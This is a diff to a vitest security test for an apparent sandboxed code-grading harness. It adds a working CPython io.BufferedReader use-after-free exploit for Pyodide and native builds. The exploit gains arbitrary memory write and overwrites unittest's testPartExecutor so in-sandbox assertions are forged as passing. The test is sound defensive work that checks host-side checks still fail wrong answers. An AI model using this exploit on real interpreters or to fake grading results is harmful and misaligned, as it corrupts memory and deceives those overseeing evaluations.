@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { BUILTIN_TASKS, loadTaskDir } from "../../src/cli/task-fs";
 import { createRuntime } from "../../src/python/node";
 import { type PythonRuntime, taskRunRequest } from "../../src/python/runtime";
+import { withoutInputChecks } from "../helpers/attacks";
 
 /** Submissions that patch the test machinery must not pass, and must not change the next run. */
 const task = loadTaskDir(BUILTIN_TASKS, "min-p-sampling");
@@ -365,6 +366,133 @@ if _made:
 `;
     const r = await rt.run(taskRunRequest(task, `${task.canonical}\n${routes}`));
     expect([r.collectionError, r.incident, r.allPassed]).toEqual([null, null, true]);
+  });
+});
+
+// A memory-safety bug of CPython on both backends (docs/security.md, "a memory-safety bug of the interpreter"):
+// io.BufferedReader hands a Python raw stream a view of its own buffer, and the view outlives the buffer. With
+// it a candidate writes any address: here a generator that swallows every exception over unittest's
+// testPartExecutor, so each assertion decided in the box passes. Pointers are 8 bytes natively, 4 in Pyodide.
+const IO_BUFFER_FORGE = {
+  native: `import io, struct
+import unittest.case
+_keep = []
+def _mem():
+    keep = []
+    class Raw(io.RawIOBase):
+        def readable(self): return True
+        def readinto(self, mv):
+            keep.append(mv); return 0
+    r = io.BufferedReader(Raw(), buffer_size=256)
+    r.read(1)
+    mv = keep.pop()
+    del r
+    L = [None] * 32
+    if struct.unpack_from("<Q", mv, 0)[0] != id(None):
+        raise RuntimeError("layout")
+    _keep.extend([mv, L, Raw])
+    def obj_at(addr):
+        struct.pack_into("<Q", mv, 0, addr)
+        o = L[0]
+        struct.pack_into("<Q", mv, 0, id(None))
+        return o
+    fake = struct.pack("<QQqqQQQ", 1 << 40, id(bytearray), (1 << 63) - 1, (1 << 63) - 1, 0, 0, 0) + bytes(8)
+    _keep.append(fake)
+    m = obj_at(id(fake) + 32)
+    _keep.append(m)
+    return m
+M = _mem()
+def _rd(a): return int.from_bytes(M[a:a + 8], "little")
+def _part(self, test_case, subTest=False):
+    try:
+        yield
+    except BaseException:
+        pass
+_keep.append(_part)
+_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
+M[id(_pe) + 24:id(_pe) + 32] = id(_part).to_bytes(8, "little")
+`,
+  pyodide: `import io, struct
+import unittest.case
+_keep = []
+def _mem():
+    keep = []
+    class Raw(io.RawIOBase):
+        def readable(self): return True
+        def readinto(self, mv):
+            keep.append(mv); return 0
+    marker = object()
+    _keep.append(marker)
+    L = None
+    for bs in (4096, 256, 64, 1024, 512):
+        r = io.BufferedReader(Raw(), buffer_size=bs)
+        r.read(1)
+        mv = keep.pop()
+        del r
+        for n in [bs // 4, bs // 4 - 1, bs // 4 - 2, bs // 4 - 3, bs // 4 - 4] + list(range(1, 1100)):
+            T = [marker] * n
+            if struct.unpack_from("<I", mv, 0)[0] == id(marker):
+                L = T
+                break
+            del T
+        if L is not None:
+            break
+        _keep.append(mv)
+    if L is None:
+        raise RuntimeError("layout")
+    struct.pack_into("<I", mv, 0, id(None))
+    L[0] = None
+    _keep.extend([mv, L, Raw])
+    def obj_at(addr):
+        struct.pack_into("<I", mv, 0, addr)
+        o = L[0]
+        struct.pack_into("<I", mv, 0, id(None))
+        return o
+    fake = struct.pack("<7I", 0x40000000, id(bytearray), 0x7ffffff0, 0x7ffffff0, 0, 0, 0) + bytes(8)
+    _keep.append(fake)
+    m = obj_at(id(fake) + 16)
+    _keep.append(m)
+    return m
+M = _mem()
+def _part(self, test_case, subTest=False):
+    try:
+        yield
+    except BaseException:
+        pass
+_keep.append(_part)
+_pe = unittest.case._Outcome.__dict__["testPartExecutor"]
+_want = id(_pe[0]).to_bytes(4, "little")
+for _o in range(8, 32, 4):
+    if M[id(_pe) + _o:id(_pe) + _o + 4] == _want:
+        M[id(_pe) + _o:id(_pe) + _o + 4] = id(_part).to_bytes(4, "little")
+        break
+`,
+};
+
+describe.each(["pyodide", "native"] as const)("%s: memory access in the box", (backend) => {
+  let rt: PythonRuntime;
+  beforeAll(async () => {
+    rt = createRuntime(backend);
+    await rt.ready();
+  });
+  afterAll(async () => {
+    await rt.dispose();
+  });
+
+  it("decides nothing the host checks: tests whose checked values are wrong still fail", async () => {
+    const wrong = task.canonical.replace(
+      "return [math.exp(s - log_norm) for s in scaled]",
+      "return [1.01 * math.exp(s - log_norm) for s in scaled]",
+    );
+    expect(wrong).not.toBe(task.canonical);
+    const r = await rt.run(taskRunRequest(task, `${IO_BUFFER_FORGE[backend]}\n${wrong}`));
+    expect(r.allPassed).toBe(false);
+    const status = Object.fromEntries(r.tests.map((t) => [t.id, t.status]));
+    expect([status["TestSoftmax.test_values"], status["TestSoftmax.test_large_logits_and_errors"]]).toEqual(["failed", "failed"]);
+    // The attack took effect: an assertion the box decides (test_edges' assertRaises, which a candidate without
+    // input checks fails) is forged. This is the documented residual: what only the box decides, it can lose.
+    const stub = await rt.run(taskRunRequest(task, `${IO_BUFFER_FORGE[backend]}\n${withoutInputChecks(task.canonical)}`));
+    expect(stub.tests.find((t) => t.id === "TestMinPFilter.test_edges")?.status).toBe("passed");
   });
 });
 
